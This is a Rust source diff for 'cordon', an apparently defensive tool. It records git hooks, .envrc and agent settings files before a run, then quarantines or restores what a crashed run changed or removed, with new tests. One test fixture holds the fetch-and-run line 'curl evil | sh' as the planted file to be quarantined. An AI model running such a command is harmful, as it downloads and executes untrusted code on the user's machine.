@@ -80,7 +80,11 @@ const MAX_CONTENT: u64 = 64 * 1024;
 /// The earlier contents a run keeps beside its marker ([`Snapshot::kept`]) take at most
 /// this many bytes: the marker is read whole.
 const KEEP_TOTAL: usize = 1 << 20;
-const KEEP_HEAD: &[u8] = b"cordon kept contents v1\n";
+/// v2: every watched path, not only the contents (v1's, not read: a kill across an upgrade
+/// leaves the run's changes moved aside, not restored, as before anything was kept).
+const KEEP_HEAD: &[u8] = b"cordon kept contents v2\n";
+/// A kept path's content length when its content is not kept.
+const NO_CONTENT: usize = u32::MAX as usize;
 /// An index larger than this is not parsed (its gitlinks are not compared).
 const MAX_INDEX: u64 = 256 * 1024 * 1024;
 /// How deep `modules/` nests git directories (submodules of submodules, names with `/`).
@@ -264,7 +268,8 @@ impl Finding {
 #[derive(Debug, Clone, PartialEq, Eq)]
 struct Seen {
     what: What,
-    why: &'static str,
+    /// Why it is watched: one of the walk's reasons, or as a dead run kept it ([`Kept`]).
+    why: std::borrow::Cow<'static, str>,
     /// (type, dev, ino) for directories; with size, mtime, ctime and mode for the rest.
     id: Id,
     content: Option<Vec<u8>>,
@@ -999,7 +1004,7 @@ impl Snapshot {
             dir.to_path_buf(),
             Seen {
                 what: What::Unlistable,
-                why: "a directory cordon cannot list (no read permission): what it holds cannot be checked, yet the operator's tools can open a file in it by name (direnv's `.envrc` on `cd`)",
+                why: "a directory cordon cannot list (no read permission): what it holds cannot be checked, yet the operator's tools can open a file in it by name (direnv's `.envrc` on `cd`)".into(),
                 id: (
                     UNLISTABLE,
                     m.dev(),
@@ -1035,7 +1040,7 @@ impl Snapshot {
             path,
             Seen {
                 what,
-                why,
+                why: why.into(),
                 id: identity(&m),
                 content,
                 mode: m.mode() & 0o7777,
@@ -1372,7 +1377,9 @@ impl Snapshot {
     /// mode and owner: as it was). A changed file whose earlier content the dead run kept
     /// ([`Kept`]) gets it back, as the run's own scan would have done (never over a name:
     /// what is at the name is moved aside first, and the restore refuses a name that was
-    /// filled meanwhile); each move journaled first in `journal`, when there is one.
+    /// filled meanwhile); each move journaled first in `journal`, when there is one. What the
+    /// run removed of what its "before" snapshot saw is reported too, and written back where
+    /// its content was kept.
     pub fn changed_since(
         &self,
         since: Began,
@@ -1398,13 +1405,14 @@ impl Snapshot {
             if is_own(path, now) {
                 continue;
             }
+            // Cordon's own write-back cut short by a kill before its rename: not the run's.
+            if staging_left(path, now, kept) {
+                continue;
+            }
             // As it was before the run (content, mode and owner as the run kept them): cordon's
             // own restore of a scan killed before its marker went, or a rewrite to the same
             // bytes. Nothing to move aside; it would only blame the run for the operator's file.
-            if now
-                .earlier()
-                .is_some_and(|e| kept.files.get(path) == Some(&e))
-            {
+            if now.earlier().is_some_and(|e| kept.earlier(path) == Some(e)) {
                 continue;
             }
             out.push(Finding {
@@ -1416,8 +1424,18 @@ impl Snapshot {
             });
         }
         for f in &mut out {
-            f.handling = quarantine(f, kept.files.get(&f.path).cloned(), journal);
+            f.handling = quarantine(f, kept.earlier(&f.path), journal);
         }
+        // What the run removed: each path its "before" snapshot saw (as the run kept it) that
+        // is gone now, written back where its content was kept, as the run's own scan does
+        // ([`Snapshot::removed_since`], [`recreate`]). Without it, a run killed after it
+        // removed the operator's `pre-commit` or cordon's own hook went unreported.
+        let before = kept.as_before(&self.roots);
+        let mut removed = self.removed_since(&before);
+        for f in &mut removed {
+            f.handling = recreate(&f.path, &before);
+        }
+        out.extend(removed);
         out
     }
 
@@ -1431,39 +1449,72 @@ impl Snapshot {
         self.no_restore = true;
     }
 
-    /// The earlier contents this snapshot read ([`Kept`]), to be kept where no run reaches
-    /// while the run goes (beside its after-run marker): the regular files, by path, up to
-    /// [`KEEP_TOTAL`] bytes in all; how many were left out (larger than [`MAX_CONTENT`], or
-    /// beyond the total) is said in it.
+    /// What this snapshot saw ([`Kept`]), to be kept where no run reaches while the run goes
+    /// (beside its after-run marker): every watched path, with its kind, what and why, mode
+    /// and owner — so that a dead run's scan sees what the run removed — and the content of
+    /// the regular files and links, so that it can put them back. At most [`KEEP_TOTAL`]
+    /// bytes in all, the paths first, the contents with the room left; how many paths did not
+    /// fit, and how many files' contents (larger than [`MAX_CONTENT`], or beyond the total),
+    /// is said in it.
     pub fn kept(&self) -> Vec<u8> {
         use std::os::unix::ffi::OsStrExt;
-        let mut body = Vec::new();
-        let mut left_out: u32 = 0;
         let word = |b: &mut Vec<u8>, n: usize| b.extend_from_slice(&(n as u32).to_le_bytes());
+        // The reasons, each once (a few dozen strings; the paths name them by number).
+        let mut whys: Vec<&str> = Vec::new();
+        let mut listed = Vec::new();
+        let (mut size, mut unlisted) = (4, 0u32);
         for (path, seen) in &self.seen {
-            if seen.id.0 != FILE {
+            let why = whys.iter().position(|w| *w == seen.why);
+            let cost = 36 + path.as_os_str().len() + why.map_or(4 + seen.why.len(), |_| 0);
+            if size + cost > KEEP_TOTAL {
+                unlisted += 1;
                 continue;
             }
+            size += cost;
+            let why = why.unwrap_or_else(|| {
+                whys.push(&seen.why);
+                whys.len() - 1
+            });
+            listed.push((path, seen, why));
+        }
+        let mut body = Vec::new();
+        word(&mut body, whys.len());
+        for w in &whys {
+            word(&mut body, w.len());
+            body.extend_from_slice(w.as_bytes());
+        }
+        let mut left_out: u32 = 0;
+        for (path, seen, why) in listed {
             let p = path.as_os_str().as_bytes();
-            let Some(content) = seen
+            let content = seen
                 .content
                 .as_ref()
-                .filter(|c| body.len() + 20 + p.len() + c.len() <= KEEP_TOTAL)
-            else {
+                .filter(|c| seen.id.0 != DIR && size + c.len() <= KEEP_TOTAL);
+            if seen.id.0 == FILE && content.is_none() {
                 left_out += 1;
-                continue;
-            };
+            }
             word(&mut body, p.len());
             body.extend_from_slice(p);
+            word(&mut body, seen.id.0 as usize);
+            let what = What::ALL.iter().position(|w| *w == seen.what).unwrap_or(0);
+            word(&mut body, what);
+            word(&mut body, why);
             word(&mut body, seen.mode as usize);
             word(&mut body, seen.owner.0 as usize);
             word(&mut body, seen.owner.1 as usize);
-            word(&mut body, content.len());
-            body.extend_from_slice(content);
+            match content {
+                Some(c) => {
+                    size += c.len();
+                    word(&mut body, c.len());
+                    body.extend_from_slice(c);
+                }
+                None => word(&mut body, NO_CONTENT),
+            }
         }
         let mut out = KEEP_HEAD.to_vec();
         word(&mut out, body.len());
         word(&mut out, left_out as usize);
+        word(&mut out, unlisted as usize);
         out.extend_from_slice(&body);
         out
     }
@@ -1926,9 +1977,50 @@ fn real_in(path: &Path, roots: &[PathBuf]) -> PathBuf {
         .map_or_else(|| path.to_path_buf(), |(p, n)| p.join(n))
 }
 
+/// Whether `path` is a staging file that a write-back of cordon's (of a file the run removed,
+/// or of an earlier content) left when its cordon was killed before the rename
+/// (`NAME.cordon-restore-…`, [`Journal::staging_name`]), holding what the run kept of `NAME`
+/// or the start of it; removed here when so. The write-back is done again from `kept`; taken
+/// for the run's change, it was moved aside with a warning blaming the run (and saying its
+/// earlier content was not kept). A file of that name holding anything else is the run's,
+/// and handled as such.
+fn staging_left(path: &Path, now: &Seen, kept: &Kept) -> bool {
+    let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
+        return false;
+    };
+    let marker = Journal::STAGING.as_bytes();
+    let Some(at) = name
+        .as_bytes()
+        .windows(marker.len())
+        .position(|w| w == marker)
+    else {
+        return false;
+    };
+    let base = parent.join(std::ffi::OsStr::from_bytes(&name.as_bytes()[..at]));
+    let (Some(was), Some(has)) = (kept.earlier(&base), now.content.as_ref()) else {
+        return false;
+    };
+    if now.id.0 != FILE || !was.content.starts_with(has) {
+        return false;
+    }
+    // The file the snapshot read, still there, removed through its directory (no link on
+    // the way followed).
+    let Ok(dir) = cordon_fs::safe::Dir::open_absolute(parent) else {
+        return false;
+    };
+    let rel = Path::new(name);
+    let same = dir
+        .stat_at(rel)
+        .ok()
+        .flatten()
+        .is_some_and(|st| (st.st_dev, st.st_ino) == (now.id.1, now.id.2));
+    same && dir.remove(rel).is_ok()
+}
+
 /// The scan of a run whose cordon died before its own: everything watched in `roots` that
 /// changed at or after `since`, moved aside, a changed file whose earlier content the run
-/// `kept` ([`Snapshot::kept`]) put back; `None` when the walk could not finish.
+/// `kept` ([`Snapshot::kept`]) put back, a removed one written back; `None` when the walk
+/// could not finish.
 pub fn scan_changed_since(
     roots: &[PathBuf],
     since: impl Into<Began>,
@@ -1985,13 +2077,16 @@ fn stamped_at_or_after((secs, nsec): (i64, i64), since: Began) -> bool {
     Duration::new(secs, nsec.min(999_999_999)) + slack >= since
 }
 
-/// The earlier contents a run's "before" snapshot read ([`Snapshot::kept`]), as the run kept
-/// them: what a dead run's scan restores ([`scan_changed_since`]).
+/// What a run's "before" snapshot saw ([`Snapshot::kept`]), as the run kept it: what a dead
+/// run's scan compares with ([`scan_changed_since`]) — a changed file gets its earlier content
+/// back, a removed one is written back.
 #[derive(Debug, Default)]
 pub struct Kept {
-    files: BTreeMap<PathBuf, journal::Earlier>,
+    seen: BTreeMap<PathBuf, Seen>,
     /// Files whose content was not kept (too large): moved aside and not restored.
     pub left_out: u32,
+    /// Watched paths not kept at all (past [`KEEP_TOTAL`]): their removal cannot be seen.
+    pub unlisted: u32,
 }
 
 impl Kept {
@@ -2002,14 +2097,31 @@ impl Kept {
         Kept::parse(bytes).unwrap_or_default()
     }
 
-    /// Whether anything was kept (the run's kept part was whole, and held a file).
-    pub fn is_empty(&self) -> bool {
-        self.files.is_empty()
-    }
-
     /// Whether the earlier content of `path` was kept.
     pub fn holds(&self, path: &Path) -> bool {
-        self.files.contains_key(path)
+        self.earlier(path).is_some()
+    }
+
+    /// Whether `path` was a regular file whose content was not kept (too large, or past the
+    /// total): what a warning about it says, and not of a directory or a link.
+    pub fn content_left_out(&self, path: &Path) -> bool {
+        self.seen
+            .get(path)
+            .is_some_and(|s| s.id.0 == FILE && s.content.is_none())
+    }
+
+    /// The earlier content (mode, owner) of the file at `path`, where it was kept.
+    fn earlier(&self, path: &Path) -> Option<journal::Earlier> {
+        self.seen.get(path).and_then(Seen::earlier)
+    }
+
+    /// What the run's "before" snapshot saw, as a snapshot of `roots` to compare with.
+    fn as_before(&self, roots: &[PathBuf]) -> Snapshot {
+        Snapshot {
+            seen: self.seen.clone(),
+            roots: roots.to_vec(),
+            ..Snapshot::default()
+        }
     }
 
     /// Writes each kept file whose name is empty now back (content, mode, owner): after a
@@ -2018,7 +2130,11 @@ impl Kept {
     /// without replacing), never through a link. Each path written back, or why not.
     pub fn write_back_missing(&self) -> Vec<(PathBuf, Result<(), String>)> {
         let mut out = Vec::new();
-        for (path, was) in &self.files {
+        let files = self
+            .seen
+            .iter()
+            .filter_map(|(p, s)| Some((p, s.earlier()?)));
+        for (path, was) in files {
             let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
                 continue;
             };
@@ -2029,7 +2145,7 @@ impl Kept {
                 continue; // filled meanwhile (or cannot be looked at): left as it is
             }
             let staging = Journal::staging_name(name);
-            let done = journal::stage(&dir, Path::new(&staging), was)
+            let done = journal::stage(&dir, Path::new(&staging), &was)
                 .and_then(|()| {
                     dir.rename_noreplace(Path::new(&staging), Path::new(name))
                         .map_err(std::io::Error::other)
@@ -2047,39 +2163,62 @@ impl Kept {
     }
 
     fn parse(bytes: &[u8]) -> Option<Kept> {
-        let rest = bytes.strip_prefix(KEEP_HEAD)?;
-        let word = |b: &[u8], at: usize| -> Option<usize> {
-            Some(u32::from_le_bytes(b.get(at..at + 4)?.try_into().ok()?) as usize)
-        };
-        let (len, left_out) = (word(rest, 0)?, word(rest, 4)? as u32);
-        let body = rest.get(8..)?;
-        if body.len() != len {
+        let mut head = Bytes(bytes.strip_prefix(KEEP_HEAD)?);
+        let (len, left_out, unlisted) = (head.word()?, head.word()? as u32, head.word()? as u32);
+        if head.0.len() != len {
             return None;
         }
-        let mut files = BTreeMap::new();
-        let mut at = 0;
-        while at < body.len() {
-            let n = word(body, at)?;
-            let path = PathBuf::from(OsString::from_vec(body.get(at + 4..at + 4 + n)?.to_vec()));
-            at += 4 + n;
-            let (mode, uid, gid, len) = (
-                word(body, at)? as u32,
-                word(body, at + 4)? as u32,
-                word(body, at + 8)? as u32,
-                word(body, at + 12)?,
-            );
-            let content = body.get(at + 16..at + 16 + len)?.to_vec();
-            at += 16 + len;
-            files.insert(
+        let mut b = head;
+        let mut whys = Vec::new();
+        for _ in 0..b.word()? {
+            let n = b.word()?;
+            whys.push(String::from_utf8(b.take(n)?.to_vec()).ok()?);
+        }
+        let mut seen = BTreeMap::new();
+        while !b.0.is_empty() {
+            let n = b.word()?;
+            let path = PathBuf::from(OsString::from_vec(b.take(n)?.to_vec()));
+            let kind = b.word()? as u32;
+            let what = *What::ALL.get(b.word()?)?;
+            let why = whys.get(b.word()?)?.clone();
+            let (mode, uid, gid) = (b.word()? as u32, b.word()? as u32, b.word()? as u32);
+            let content = match b.word()? {
+                NO_CONTENT => None,
+                n => Some(b.take(n)?.to_vec()),
+            };
+            seen.insert(
                 path,
-                journal::Earlier {
+                Seen {
+                    what,
+                    why: why.into(),
+                    // Only the kind is compared ([`Snapshot::removed_since`]).
+                    id: (kind, 0, 0, 0, 0, 0, 0, 0, mode),
                     content,
                     mode,
                     owner: (uid, gid),
                 },
             );
         }
-        Some(Kept { files, left_out })
+        Some(Kept {
+            seen,
+            left_out,
+            unlisted,
+        })
+    }
+}
+
+/// What is left to read of [`Snapshot::kept`]'s bytes.
+struct Bytes<'a>(&'a [u8]);
+
+impl<'a> Bytes<'a> {
+    fn take(&mut self, n: usize) -> Option<&'a [u8]> {
+        let (a, rest) = (self.0.get(..n)?, self.0.get(n..)?);
+        self.0 = rest;
+        Some(a)
+    }
+
+    fn word(&mut self) -> Option<usize> {
+        Some(u32::from_le_bytes(self.take(4)?.try_into().ok()?) as usize)
     }
 }
 
@@ -4398,5 +4537,136 @@ mod tests {
             }
             assert!(!root.join(".envrc").exists());
         }
+    }
+
+    /// What a dead run removed is reported by the next run's scan of it and written back from
+    /// what the run kept (content, mode), as the run's own scan does: a hook, a settings
+    /// directory removed whole, an `.envrc`. A file too large to have been kept is reported,
+    /// not written back; what was written back is not found again; kept bytes that are not
+    /// whole say nothing removed.
+    #[test]
+    fn a_dead_runs_scan_reports_and_writes_back_what_the_run_removed() {
+        use std::os::unix::fs::PermissionsExt;
+        for whole in [true, false] {
+            let d = tempfile::tempdir().unwrap();
+            let root = d.path().canonicalize().unwrap();
+            let roots = std::slice::from_ref(&root);
+            std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+            std::fs::create_dir_all(root.join(".git/objects")).unwrap();
+            std::fs::create_dir_all(root.join(".git/refs")).unwrap();
+            std::fs::create_dir_all(root.join(".claude")).unwrap();
+            std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+            let hook = root.join(".git/hooks/pre-commit");
+            std::fs::write(&hook, "#!/bin/sh\nexec scan-secrets\n").unwrap();
+            std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o750)).unwrap();
+            let settings = root.join(".claude/settings.json");
+            std::fs::write(&settings, "{\"hooks\":1}\n").unwrap();
+            std::fs::write(root.join(".envrc"), vec![b'#'; MAX_CONTENT as usize + 1]).unwrap();
+            let started = SystemTime::now();
+            let mut kept = Snapshot::take(roots).kept();
+            if !whole {
+                kept.truncate(kept.len() - 1);
+            }
+            std::fs::remove_file(&hook).unwrap();
+            std::fs::remove_dir_all(root.join(".claude")).unwrap();
+            std::fs::remove_file(root.join(".envrc")).unwrap();
+            // A write-back of cordon's killed before its rename (the start of the content
+            // staged), and a file the run named like one.
+            let hooks = root.join(".git/hooks");
+            let left = hooks.join("pre-commit.cordon-restore-1-2-3");
+            std::fs::write(&left, "#!/bin/sh\n").unwrap();
+            let named = hooks.join("pre-commit.cordon-restore-4-5-6");
+            std::fs::write(&named, "curl evil | sh\n").unwrap();
+            let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+            // Removed, not reported, where the run's kept part says it is cordon's.
+            assert!(!left.exists());
+            assert_eq!(found.iter().any(|f| f.path == left), !whole, "{found:#?}");
+            assert!(!named.exists(), "the run's is moved aside");
+            assert!(
+                found
+                    .iter()
+                    .any(|f| f.path == named && matches!(f.handling, Handling::Quarantined(_))),
+                "{found:#?}"
+            );
+            let found: Vec<_> = found
+                .into_iter()
+                .filter(|f| f.path != named && f.path != left)
+                .collect();
+            if !whole {
+                assert!(found.is_empty(), "{found:#?}");
+                continue;
+            }
+            let mut got: Vec<_> = found
+                .iter()
+                .map(|f| {
+                    let rel = f.path.strip_prefix(&root).unwrap().to_path_buf();
+                    (rel, f.change, f.handling == Handling::Recreated)
+                })
+                .collect();
+            got.sort_by(|a, b| a.0.cmp(&b.0));
+            assert_eq!(
+                got,
+                [
+                    (
+                        PathBuf::from(".claude/settings.json"),
+                        Change::Removed,
+                        true
+                    ),
+                    (PathBuf::from(".envrc"), Change::Removed, false),
+                    (
+                        PathBuf::from(".git/hooks/pre-commit"),
+                        Change::Removed,
+                        true
+                    ),
+                ],
+                "{found:#?}"
+            );
+            let large = found.iter().find(|f| f.path.ends_with(".envrc")).unwrap();
+            assert!(
+                large
+                    .message()
+                    .contains("NOT restored: its content was not kept"),
+                "{}",
+                large.message()
+            );
+            assert_eq!(
+                std::fs::read_to_string(&hook).unwrap(),
+                "#!/bin/sh\nexec scan-secrets\n"
+            );
+            let mode = std::fs::metadata(&hook).unwrap().permissions().mode();
+            assert_eq!(mode & 0o777, 0o750);
+            assert_eq!(
+                std::fs::read_to_string(&settings).unwrap(),
+                "{\"hooks\":1}\n"
+            );
+            let again = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+            let again: Vec<_> = again
+                .iter()
+                .filter(|f| !f.path.ends_with(".envrc"))
+                .collect();
+            assert!(again.is_empty(), "{again:#?}");
+        }
+    }
+
+    /// A run keeps every watched path before any content: past the budget, paths are counted
+    /// as not kept, never cut in the middle.
+    #[test]
+    fn what_a_run_keeps_lists_the_paths_first_and_counts_what_did_not_fit() {
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap();
+        let roots = std::slice::from_ref(&root);
+        let content = vec![b'x'; MAX_CONTENT as usize];
+        let n = KEEP_TOTAL / content.len() + 4;
+        for i in 0..n {
+            std::fs::create_dir(root.join(format!("d{i:03}"))).unwrap();
+            std::fs::write(root.join(format!("d{i:03}/.envrc")), &content).unwrap();
+        }
+        let kept = Kept::read(&Snapshot::take(roots).kept());
+        assert_eq!(kept.unlisted, 0);
+        assert_eq!(kept.seen.len(), n, "every path is listed");
+        assert!(kept.left_out >= 4, "{}", kept.left_out);
+        assert!(kept.earlier(&root.join("d000/.envrc")).is_some());
+        let last = root.join(format!("d{:03}/.envrc", n - 1));
+        assert!(kept.earlier(&last).is_none() && kept.content_left_out(&last));
     }
 }
